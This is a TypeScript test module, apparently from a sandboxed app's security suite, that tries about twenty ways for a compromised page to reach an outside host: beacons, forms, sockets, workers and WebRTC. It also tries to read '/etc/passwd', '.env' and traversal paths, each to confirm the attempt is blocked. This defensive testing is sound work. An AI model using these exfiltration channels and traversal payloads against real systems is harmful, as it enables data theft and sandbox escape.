/** What an attacker tries who owns the page: the web platform's ways out of it. Each runs in the page and says how it ended. */

/** `place`: host and port where nothing may arrive. The text is for the reader of a failure; what counts is what arrived. */
export type Attempt = (place: string) => Promise<string> | string

/** Functions are sent to the page by their text: none may use anything from outside itself. Where nothing tells of an end, 400 ms pass. */
export const attempts: Readonly<Record<string, Attempt>> = {
  'fetch over http': (place) =>
    fetch(`http://${place}/?fetch`).then(
      () => 'arrived',
      (error: unknown) => String(error),
    ),
  'fetch without cors, kept alive': (place) =>
    fetch(`http://${place}/?keep`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).then(
      () => 'arrived',
      (error: unknown) => String(error),
    ),
  'fetch of files': async () => {
    const tried = [
      'file:///etc/passwd',
      'file:///C:/Windows/win.ini',
      'app://../etc/passwd',
      'chrome://version',
      'devtools://x/',
    ]
    const answers = await Promise.all(
      tried.map((url) =>
        fetch(url).then(
          (answer) => answer.text(),
          () => '',
        ),
      ),
    )
    if (answers.some((text) => text !== '')) throw new Error(`read: ${answers.join()}`)
    return 'refused'
  },
  'files above the page': async () => {
    const tried = [
      '..%2f..%2fpackage.json',
      '%2e%2e%2fmain/index.js',
      '..\\..\\package.json',
      '..%5c..%5cpackage.json',
      '/etc/passwd',
      'C:/Windows/win.ini',
      '../config.json',
      '.env',
      'index.html%00.js',
    ]
    const answers = await Promise.all(
      tried.map((path) =>
        fetch(`/${path}`).then(
          async (answer) => (answer.ok ? answer.text() : ''),
          () => '',
        ),
      ),
    )
    if (answers.some((text) => text !== '')) throw new Error(`read: ${answers.join().slice(0, 200)}`)
    return 'refused'
  },
  'a request that waits': (place) => {
    const request = new XMLHttpRequest()
    try {
      request.open('GET', `http://${place}/?xhr`, false)
      request.send()
      return 'arrived'
    } catch (error) {
      return String(error)
    }
  },
  'a socket': (place) =>
    new Promise((resolve) => {
      try {
        const socket = new WebSocket(`ws://${place}/`)
        socket.addEventListener('error', () => resolve('error'))
        socket.addEventListener('open', () => resolve('open'))
      } catch (error) {
        resolve(String(error))
      }
    }),
  'a stream of events': (place) =>
    new Promise((resolve) => {
      const source = new EventSource(`http://${place}/`)
      source.addEventListener('error', () => {
        source.close()
        resolve('error')
      })
    }),
  'a beacon': (place) => String(navigator.sendBeacon(`http://${place}/?beacon`, 'x')),
  'an image': (place) =>
    new Promise((resolve) => {
      const image = new Image()
      image.addEventListener('error', () => resolve('error'))
      image.addEventListener('load', () => resolve('load'))
      image.src = `http://${place}/?image`
    }),
  'a style, a font, a picture in a style': (place) =>
    new Promise((resolve) => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = `http://${place}/?style`
      link.addEventListener('error', () => resolve('error'))
      document.head.append(link)
      document.body.style.backgroundImage = `url(http://${place}/?background)`
      const face = new FontFace('x', `url(http://${place}/?font)`)
      face.load().catch(() => undefined)
    }),
  'media, an object, an embedded page, a track': (place) => {
    for (const name of ['audio', 'video', 'embed', 'iframe', 'object', 'track']) {
      const element = document.createElement(name)
      try {
        element.setAttribute(name === 'object' ? 'data' : 'src', `http://${place}/?${name}`)
        document.body.append(element)
      } catch {
        // Some take no plain text here.
      }
    }
    return new Promise((resolve) => setTimeout(() => resolve('quiet'), 400))
  },
  'hints to fetch beforehand': (place) => {
    for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'manifest', 'icon']) {
      const link = document.createElement('link')
      link.rel = rel
      link.setAttribute('as', 'image')
      link.href = `http://${place}/?${rel}`
      document.head.append(link)
    }
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    try {
      rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`http://${place}/?rules`] }] })
      document.head.append(rules)
    } catch {
      // Strings are no script here.
    }
    return new Promise((resolve) => setTimeout(() => resolve('quiet'), 400))
  },
  'a script': (place) =>
    new Promise((resolve) => {
      const script = document.createElement('script')
      script.addEventListener('error', () => resolve('error'))
      try {
        script.src = `http://${place}/?script`
        document.head.append(script)
      } catch (error) {
        resolve(String(error))
      }
    }),
  'a form': (place) => {
    const form = document.createElement('form')
    form.action = `http://${place}/?form`
    form.method = 'post'
    document.body.append(form)
    form.submit()
    return new Promise((resolve) => setTimeout(() => resolve('quiet'), 400))
  },
  leaving: (place) => {
    location.href = `http://${place}/?leave`
    return new Promise((resolve) => setTimeout(() => resolve(location.href), 400))
  },
  'another window': (place) => {
    const opened = window.open(`http://${place}/?open`)
    const link = document.createElement('a')
    link.href = `http://${place}/?blank`
    link.target = '_blank'
    document.body.append(link)
    link.click()
    if (opened !== null) throw new Error('a window opened')
    return new Promise((resolve) => setTimeout(() => resolve('quiet'), 400))
  },
  'a download': (place) => {
    const link = document.createElement('a')
    link.href = `http://${place}/?download`
    link.download = 'x.exe'
    document.body.append(link)
    link.click()
    return new Promise((resolve) => setTimeout(() => resolve('quiet'), 400))
  },
  'a worker of its own text': (place) =>
    new Promise((resolve) => {
      try {
        const code = `fetch('http://${place}/?worker').finally(() => postMessage(1))`
        const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
        worker.addEventListener('message', () => resolve('ran'))
        worker.addEventListener('error', () => resolve('error'))
      } catch (error) {
        resolve(String(error))
      }
    }),
  'a service worker': () =>
    navigator.serviceWorker === undefined
      ? 'none'
      : navigator.serviceWorker.register('/assets/x.js').then(
          () => {
            throw new Error('registered')
          },
          (error: unknown) => String(error),
        ),
  'code from text': () => {
    const results: string[] = []
    // A timer, because whoever drives the page lifts the ban while it evaluates.
    return new Promise((resolve, reject) => {
      setTimeout(() => {
        try {
          // eslint-disable-next-line no-implied-eval
          results.push(String(new Function('return 1')()))
          reject(new Error('ran'))
        } catch (error) {
          resolve(String(error))
        }
      }, 0)
    })
  },
  'connecting beforehand': (place) => {
    for (const rel of ['preconnect', 'dns-prefetch']) {
      const link = document.createElement('link')
      link.rel = rel
      link.href = `http://${place}/`
      document.head.append(link)
    }
    return new Promise((resolve) => setTimeout(() => resolve('quiet'), 400))
  },
}

/** Held back by the closed network of the window's session, which the double has not. */
export const needsBinary: Readonly<Record<string, Attempt>> = {
  'a call to another machine (WebRTC)': async (place) => {
    try {
      const connection = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:${place}` },
          { urls: `turn:${place}?transport=udp`, username: 'stolen', credential: 'x' },
          { urls: `turn:${place}?transport=tcp`, username: 'stolen', credential: 'x' },
        ],
      })
      connection.createDataChannel('x')
      await connection.setLocalDescription(await connection.createOffer())
      await new Promise((resolve) => setTimeout(resolve, 1_000))
      connection.close()
      return 'made'
    } catch (error) {
      return String(error)
    }
  },
}
